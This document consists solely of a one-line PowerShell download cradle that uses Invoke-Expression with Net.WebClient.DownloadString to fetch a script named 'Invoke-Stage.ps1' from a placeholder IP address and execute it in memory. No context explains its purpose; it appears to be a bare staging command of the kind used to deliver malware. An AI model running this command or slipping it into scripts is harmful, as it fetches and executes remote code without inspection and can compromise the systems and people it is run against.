IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/Invoke-Stage.ps1')
